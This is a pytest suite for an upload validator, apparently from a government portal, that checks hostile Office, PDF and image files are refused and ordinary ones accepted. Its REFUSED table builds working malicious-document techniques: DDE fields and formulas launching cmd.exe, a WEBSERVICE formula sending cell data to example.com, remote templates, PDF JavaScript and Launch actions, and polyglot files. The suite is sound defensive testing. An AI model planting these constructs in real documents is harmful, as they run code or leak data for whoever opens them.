"""What a file carries besides its text is refused by content, whatever its parts are called; ordinary files are taken."""

import base64
import contextlib
import io
import os
import struct
import time
import zipfile
import zlib

import pytest
from openpyxl import Workbook, load_workbook
from xlsxwriter import Workbook as WrittenBook

from dxportal.core.files.file_types import LARGEST, RefusedFileError, recognise
from tests.core.files.test_file_types import DOCX_TYPES, archive
from tests.support.files import JPEG_BYTES, PDF_BYTES, PNG_BYTES, XLSX_BYTES

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = f"<w:document {W}><w:body>{{}}</w:body></w:document>"


def docx(body="", types="", **parts):
    manifest = DOCX_TYPES.replace("</Types>", types + "</Types>")
    named = {"[Content_Types].xml": manifest, "word/document.xml": BODY.format(body)}
    return archive(named | parts.pop("more", {}))


def relation(kind, target, mode=' TargetMode="External"', where="word/_rels/settings.xml.rels", base=RELS):
    line = f'<Relationship Id="rId1" Type="{base}/{kind}" Target="{target}"{mode}/>'
    xml = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{line}</Relationships>'
    return docx(more={where: xml})


def xlsx(**cells):
    book = Workbook()
    for place, value in cells.items():
        book.active[place] = value
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def with_part(package, name, data):
    stream = io.BytesIO(package)
    with zipfile.ZipFile(stream, "a") as book:
        book.writestr(name, data)
    return stream.getvalue()


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate")]
    return docx(marks[0] + runs + marks[1])


def nested(before, inner, after):
    """A field around another one."""

    def mark(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    def letters(text):
        return f"<w:r><w:instrText>{text.replace('&', '&amp;')}</w:instrText></w:r>"

    inside = mark("begin") + letters(inner) + mark("separate") + "<w:t>1</w:t>" + mark("end")
    return docx(mark("begin") + letters(before) + inside + letters(after) + mark("separate") + mark("end"))


def pdf(*objects, tail=b""):
    body = b"".join(b"%d 0 obj %s endobj\n" % (number, text) for number, text in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer <</Root 1 0 R>>\n%%EOF\n" + tail


def packed(*objects, kind=b"/Type/ObjStm", encode=zlib.compress, filters=b"/Filter/FlateDecode", gap=b""):
    places, text = [], b""
    for number, entry in enumerate(objects, 10):
        places.append(b"%d %d" % (number, len(text)))
        text += entry + b" "
    head = b" ".join(places) + b" " + gap
    data = encode(head + text)
    dictionary = b"<<%s/N %d/First %d%s/Length %d>>" % (kind, len(objects), len(head), filters, len(data))
    return pdf(b"<</Type/Catalog>>", dictionary + b"\nstream\n" + data + b"\nendstream")


AWAY = b"<</S/URI/URI(http://example.com)>>"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
WITHOUT_CHECKSUM = lambda data: zlib.compress(data)[:-4] + b"\x00\x00\x00\x00"  # noqa: E731

REFUSED = {
    "remote template": (relation("attachedTemplate", "https://example.com/a.dotm"), "テンプレート"),
    "remote template, strict": (
        relation("attachedTemplate", "http://x.example/a.dotm", base="http://purl.oclc.org/ooxml/officeDocument/relationships"),
        "テンプレート",
    ),
    "remote template by a share": (relation("attachedTemplate", "\\\\srv\\a\\b.dotx", mode=""), "テンプレート"),
    "linked object": (relation("oleObject", "http://example.com/a.doc"), "オブジェクト"),
    "picture from elsewhere": (relation("image", "http://example.com/a.png"), "リンク"),
    "frame": (relation("frame", "http://example.com/a.htm"), "リンク"),
    "link that runs": (relation("hyperlink", "javascript:alert(1)"), "リンク"),
    "link to a share": (relation("hyperlink", "file://///server/a.exe"), "リンク"),
    "object": (relation("oleObject", "embeddings/a.dat", mode=""), "オブジェクト"),
    "package": (relation("package", "embeddings/a.dat", mode=""), "オブジェクト"),
    "another document": (relation("aFChunk", "a.htm", mode=""), "別の文書"),
    "control": (relation("control", "controls/a.xml", mode=""), "オブジェクト"),
    "add-in": (relation("webextensiontaskpanes", "w.xml", mode=""), "オブジェクト"),
    "ribbon that calls": (relation("extensibility", "customUI/a.xml", mode=""), "マクロ"),
    "macro renamed": (docx(more={"word/media/image1.png": OLE}), "マクロ"),
    "macro by content type": (
        docx(types='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaPr&#111;ject"/>'),
        "マクロ",
    ),
    "program": (docx(more={"word/media/image1.png": b"MZ\x90\x00" + bytes(99)}), "プログラム"),
    "archive inside": (docx(more={"word/media/image1.png": XLSX_BYTES}), "埋め込まれたファイル"),
    "field DDE": (field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "DDE"),
    "field DDE in pieces": (field(" D", "D", "E cmd "), "DDE"),
    "field DDE in one": (docx('<w:fldSimple w:instr="dde cmd"/>'), "DDE"),
    "field from elsewhere": (field(' INCLUDEPICTURE "http://example.com/a.png" '), "フィールド"),
    "field in a header": (docx(more={"word/odd.part": BODY.format("<w:instrText>DDE x</w:instrText>")}), "DDE"),
    "field inside a SET": (nested(' SET a "', " QUOTE 1 ", '" '), "SET"),
    "field SET": (field(' SET a "c:\\\\a" '), "SET"),
    "field spelt by another": (nested(" ", " REF a ", " cmd "), "SET"),
    "field DDE around another": (nested(" DD", " REF a ", "E cmd "), "DDE"),
    "field DDE around another as its first word": (nested(" D", " REF a ", "DE cmd "), "DDE|SET"),
    "field that leads to a program": (field(' HYPERLINK "file:///c:/a.exe" '), "リンク"),
    "merge with data from elsewhere": (docx(more={"word/s.xml": BODY.format('<w:connectString w:val="DSN=a"/>')}), "接続"),
    "base of links on a share": (docx(more={"docProps/app.xml": "<P><HyperlinkBase>\\\\srv\\a</HyperlinkBase></P>"}), "リンク"),
    "control without a relation": (docx(more={"word/a.xml": '<ax:ocx xmlns:ax="a" ax:classid="{0}"/>'}), "オブジェクト"),
    "doctype in a part": (docx(more={"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "壊れて"),
    "connections without a relation": (with_part(XLSX_BYTES, "xl/connections.xml", "<?xml version='1.0'?>\n<connections/>"), "接続"),
    "connection under another name": (
        with_part(XLSX_BYTES, "xl/odd.xml", '<!-- a --><x:queryTable xmlns:x="a" connectionId="1"/>'), "接続",
    ),
    "query": (with_part(XLSX_BYTES, "customXml/item1.xml", "<?xml version='1.0'?><DataMashup>a</DataMashup>".encode("utf-16")), "接続"),
    "query of a relation": (relation("queryTable", "queryTables/a.xml", mode=""), "接続"),
    "query by content type": (
        docx(types=f'<Override PartName="/a" ContentType="{OFFICE_TYPE}spreadsheetml.queryTable+xml"/>'), "接続",
    ),
    "formula DDE": (xlsx(A1="=cmd|'/C calc'!A0"), "DDE"),
    "formula DDE with entity": (
        with_part(XLSX_BYTES, "xl/worksheets/sheet9.xml", "<worksheet><f>cmd&#124;'/c calc'!A0</f></worksheet>"),
        "DDE",
    ),
    "formula that asks": (xlsx(A1='=_xlfn.WEBSERVICE("http://example.com/"&B1)'), "数式"),
    "formula of another book": (xlsx(A1="='http://example.com/[a.xlsx]S'!A1"), "リンク"),
    "formula of another book by its number": (xlsx(A1="=SUM([1]S!A1:A3)"), "リンク"),
    "formula that leads to a program": (xlsx(A1='=HYPERLINK("file:///c:/a.exe","資料")'), "リンク"),
    "DDE link": (with_part(XLSX_BYTES, "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>"), "DDE"),
    "another book": (
        with_part(
            XLSX_BYTES, "xl/odd/_rels/a.rels",
            f'<R xmlns=""><Relationship Id="a" Type="{RELS}/externalLink" Target="externalLinks/a.xml"/></R>',
        ),
        "リンク",
    ),
    "connection": (relation("connections", "connections.xml", mode=""), "接続"),
    "page inside": (docx(more={"word/a.xml": "<html><script>1</script></html>"}), "HTML"),
    "UTF-16": (docx(more={"word/a.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")}), "壊れて"),
    "doctype": (docx(more={"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "壊れて"),
    "program after the archive": (XLSX_BYTES + b"MZ\x90\x00", "余分なデータ"),
    "archive after the archive": (XLSX_BYTES + docx(), "形式|余分なデータ|壊れて|ZIP"),
    "pdf in an archive": (
        archive({"a": "%PDF-1.7 %%EOF"}, zipfile.ZIP_STORED)[:-22] + XLSX_BYTES, "余分なデータ|壊れて",
    ),
    "pdf script": (pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", SCRIPT), "JavaScript"),
    "pdf script escaped": (pdf(b"<</S/J#61vaScr#69pt/JS(1)>>"), "JavaScript"),
    "pdf script with gaps": (pdf(b"<</S % x\n /JavaScript /JS (1)>>"), "JavaScript"),
    "pdf script by a name elsewhere": (pdf(b"<</S 2 0 R/JS(1)>>", b"/JavaScript"), "JavaScript"),
    "pdf names of scripts": (pdf(b"<</Names<</Dests 3 0 R/JavaScript 4 0 R>>>>"), "JavaScript"),
    "pdf script packed": (packed(b"<<>>", SCRIPT), "JavaScript"),
    "pdf script packed, escaped": (packed(b"<</S/#4aavaScript/JS(1)>>"), "JavaScript"),
    "pdf script packed, unmarked": (packed(SCRIPT, kind=b""), "JavaScript"),
    "pdf script packed, bad sum": (packed(SCRIPT, encode=WITHOUT_CHECKSUM), "JavaScript"),
    "pdf script packed, cut": (packed(SCRIPT, b"<<>>" * 99, encode=lambda data: zlib.compress(data)[:-9]), "JavaScript"),
    "pdf script packed twice": (
        packed(SCRIPT, encode=lambda data: zlib.compress(data).hex().encode() + b">",
               filters=b"/Filter[/ASCIIHexDecode/FlateDecode]"),
        "JavaScript",
    ),
    "pdf script packed otherwise": (
        packed(SCRIPT, encode=lambda data: base64.a85encode(zlib.compress(data)) + b"~>",
               filters=b"/Filter[/ASCII85Decode/FlateDecode]"),
        "JavaScript",
    ),
    "pdf packed as nobody can read": (packed(SCRIPT, encode=lambda data: b"\x80" + data, filters=b"/Filter/LZWDecode"), "確認できない"),
    "pdf launch": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "起動"),
    "pdf file inside": (pdf(b"<</Names<</EmbeddedFiles 3 0 R>>>>"), "埋め込まれた"),
    "pdf file specification": (pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>"), "埋め込まれた"),
    "pdf file packed": (packed(b"<</Type/Filespec/EF<</F 3 0 R>>>>"), "埋め込まれた"),
    "pdf portfolio": (pdf(b"<</Collection<</View/D>>>>"), "埋め込まれた"),
    "pdf form of scripts": (pdf(b"<</AcroForm<</XFA 5 0 R>>>>"), "XFA"),
    "pdf that sends": (pdf(b"<</S/SubmitForm/F(http://example.com)>>"), "送信"),
    "pdf that opens a page": (pdf(b"<</OpenAction<</S/URI/URI(http://example.com)>>>>"), "自動"),
    "pdf that opens a page by reference": (pdf(b"<</OpenAction 2 0 R>>", b"<</S/URI/URI(http://example.com)>>"), "自動"),
    "pdf that opens a page, packed": (packed(b"<</OpenAction 11 0 R>>", AWAY), "自動"),
    "pdf that opens a page, packed apart": (
        packed(b"<</OpenAction 11 0 R>>", AWAY, gap=b"<</S/GoTo>>  "), "自動",
    ),
    "pdf that opens a page, packed elsewhere": (
        pdf(b"<</OpenAction 10 0 R>>") [: -len(b"trailer <</Root 1 0 R>>\n%%EOF\n")] + packed(AWAY)[9:], "自動",
    ),
    "pdf that opens a page afterwards": (
        pdf(b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 2 0 R>>>>", b"[4 0 R 3 0 R]", AWAY, b"<</S/Named/N/Print>>"), "自動",
    ),
    "pdf that opens a page at a moment": (pdf(b"<</Type/Page/AA<</O<</S/URI/URI(http://example.com)>>>>>>"), "自動"),
    "pdf that opens a page at a moment by reference": (pdf(b"<</Type/Page/AA 2 0 R>>", b"<</C 3 0 R>>", AWAY), "自動"),
    "pdf that opens a page by a kind elsewhere": (pdf(b"<</OpenAction<</S 2 0 R/URI(http://example.com)>>>>", b"/URI"), "自動"),
    "pdf that opens what is nowhere": (pdf(b"<</OpenAction 7 0 R>>"), "確認できない"),
    "pdf packed as nobody can read, with words": (
        packed(SCRIPT, encode=lambda data: b"\x80" + data, filters=b"/Filter/LZWDecode/X(1 0 obj)"), "確認できない",
    ),
    "pdf packed as nobody can read, far away": (
        packed(SCRIPT, encode=lambda data: b"\x80" + data, filters=b"/Filter/LZWDecode" + b" " * 4000), "確認できない",
    ),
    "pdf packed in rows": (
        packed(SCRIPT, encode=lambda data: zlib.compress(b"".join(b"\x00%c" % each for each in data)),
               filters=b"/Filter/FlateDecode/DecodeParms<</Predictor 10/Columns 1>>"),
        "確認できない",
    ),
    "pdf with an archive": (PDF_BYTES + archive({"a": "b"}), "余分なデータ|ZIP"),
    "pdf with an archive before its end": (
        PDF_BYTES[:-6] + archive({"a": "b"})[:-2] + b"\x06\x00" + b"%%EOF\n", "ZIP",
    ),
    "pdf with a page": (b"%PDF-1.7\n<html><script>alert(1)</script>" + PDF_BYTES[9:], "HTML"),
    "pdf with a lock": (b"%PDF-1.7\n1 0 obj<</Encrypt 5 0 R>>endobj\n" + b" " * 9999 + b"%%EOF\n", "パスワード"),
    "picture with an archive": (PNG_BYTES + archive({"a": "b"}), "ZIP"),
    "picture with a script": (JPEG_BYTES + b"<script>alert(1)</script>", "スクリプト"),
    "picture with a pdf": (JPEG_BYTES + PDF_BYTES, "PDF"),
    **{
        f"{name} by another name": (content, "添付できるのは")
        for name, content in {
            "rich text": rb"{\rtf1{\object\objdata 01}{\*\template http://a}{\field{\*\fldinst DDEAUTO cmd}}}",
            "drawing": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
            "web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>1</script>",
            "query": b"WEB\r\n1\r\nhttps://example.com/a\r\n",
            "symbolic link": b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nE\r\n",
            "library": b'<?xml version="1.0"?><libraryDescription><searchConnectorDescriptionList/></libraryDescription>',
            "page": b"<html><script>alert(1)</script></html>",
            "page with a PDF behind": b"<html><script>1</script>\n%PDF-1.7\n%%EOF\n",
        }.items()
    },
    "picture that moves, with a page": (b"GIF89a=1;<script>alert(1)</script>", "添付できるのは"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_runs_or_leads_out_is_refused_by_name(name):
    data, words = REFUSED[name]
    with pytest.raises(RefusedFileError, match=rf"(?s)({words}).*。$"):
        recognise(data)


def png():
    """A whole picture of noise."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + os.urandom(3 * 40) for _ in range(30))
    head = struct.pack(">IIBBBBB", 40, 30, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def a_full_book():
    """With a chart, a picture, a note, a list of choices and text that looks like more than it is."""
    stream = io.BytesIO()
    with WrittenBook(stream) as book:
        sheet = book.add_worksheet("表")
        book.add_worksheet("a|b")
        sheet.write_row("A1", ["項目", "値|単位", "<script>DDE cmd|x!A1</script>"])
        sheet.write_column("B2", [1, 2, 3, 4, 5])
        sheet.write_formula("D1", '=A1&"|"&B1&"!"')
        sheet.write_formula("D6", '=HYPERLINK("https://example.lg.jp/a","資料")')
        sheet.write_formula("D7", '=SUM(売上[金額])&"[1]"')
        sheet.write_formula("D2", "=SUM('a|b'!B2:B6)")
        sheet.write_url("D4", "https://example.lg.jp/", string="例")
        sheet.write_comment("D5", "メモ")
        sheet.data_validation("E1", {"validate": "list", "source": ["a", "b|c"]})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=表!$B$2:$B$6"})
        sheet.insert_chart("F2", chart)
        sheet.insert_image("F20", "a.png", {"image_data": io.BytesIO(png())})
    return stream.getvalue()


ORDINARY = {
    "book": XLSX_BYTES,
    "full book": a_full_book(),
    "document with links": relation("hyperlink", "https://example.lg.jp/a?b=c"),
    "document with a mail address": relation("hyperlink", "mailto:dx@example.lg.jp"),
    "document with a page number": field(" PAGE \\* MERGEFORMAT "),
    "document with a sum of fields": nested(" = ", " PAGE ", " + 1 "),
    "document with a choice of fields": nested(" IF ", " PAGE ", ' = 1 "a" "b" '),
    "document with a link as a field": field(' HYPERLINK "https://example.lg.jp/a" '),
    "document with a link to its own place": field(' HYPERLINK \\l "_Toc1" '),
    "document with notes of its own": docx(
        more={"customXml/item1.xml": "<b:Sources xmlns:b='a'><connection/></b:Sources>"}
    ),
    "document with contents": field(' TOC \\o "1-3" \\h '),
    "document about scripts": docx("<w:t>&lt;script&gt; DDE JavaScript</w:t>"),
    "picture": png(),
    "pdf that opens at a page": pdf(b"<</Type/Catalog/OpenAction[3 0 R/XYZ null null 0]>>"),
    "pdf that opens at a page by reference": pdf(b"<</OpenAction 2 0 R>>", b"<</S/GoTo/D[3 0 R/Fit]>>"),
    "pdf that opens at a page, with pages numbered": pdf(
        b"<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>/PageLabels<</Nums[0<</S/D>>]>>>>"
    ),
    "pdf that opens at a page, packed beside links": packed(
        b"<</OpenAction 11 0 R>>",
        b"<</S/GoTo/D 12 0 R>>",
        b"[13 0 R/XYZ 0 0 null]",
        b"<</Type/Page/Group<</S/Transparency>>/A<</S/URI/URI(https://example.lg.jp)>>>>",
    ),
    "pdf with an outline before a picture": pdf(
        b"<</First 3 0 R/Next 4 0 R/AP<</N 5 0 R>>>>",
        b"<</Filter/DCTDecode/DecodeParms<<>>>>stream\n\xff\xd8\nendstream",
    ),
    "pdf with links": pdf(b"<</S/URI/URI(https://example.lg.jp/docs/Web/JavaScript/Guide)>>"),
    "pdf about scripts": pdf(b"<</Title(JavaScript, Launch, EmbeddedFiles)>>"),
    "pdf with packed objects": packed(b"<</Type/Page>>", b"<</Type/Font>>"),
    "pdf with packed pages": packed(b"BT (a) Tj ET", kind=b""),
    "pdf with a line after it": PDF_BYTES + b"\r\n\x00",
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_files_are_taken(name):
    assert recognise(ORDINARY[name]).ending


def test_the_full_book_is_one():
    assert load_workbook(io.BytesIO(ORDINARY["full book"])).active["D1"].value


COSTLY = {
    "openings": b"/OpenAction 1 0 R " * 500_000,
    "gaps": b"/S%" * 3_000_000,
    "streams": b"stream " * 1_400_000,
    "packed streams": b"stream\n" + zlib.compress(b"1 0 " * 15_000_000, 9),
    "many packed": (b"stream\n" + zlib.compress(b"1 0 " * 2_000_000, 9)) * 200,
    "escapes": b"#2f" * 3_000_000,
    "nested": b"<<" * 4_000_000,
}


@pytest.mark.parametrize("name", COSTLY)
def test_no_pdf_holds_the_portal_up(name):
    data = b"%PDF-1.7\n" + COSTLY[name][: LARGEST - 100] + b"\n%%EOF\n"
    started = time.process_time()
    with contextlib.suppress(RefusedFileError):
        recognise(data)
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    "part",
    [b"<f" * 5_000_000, b"|<f>" * 4_000_000, b"|<f>\"'" * 3_000_000, b"<a>" * 5_000_000, b"<instrText>" * 2_000_000],
    ids=["tags", "formulas", "quotes", "depth", "fields"],
)
def test_no_package_holds_the_portal_up(part):
    data = docx(more={"word/a.xml": b"<x>" + part})
    started = time.process_time()
    with contextlib.suppress(RefusedFileError):
        recognise(data)
    assert time.process_time() - started < 8
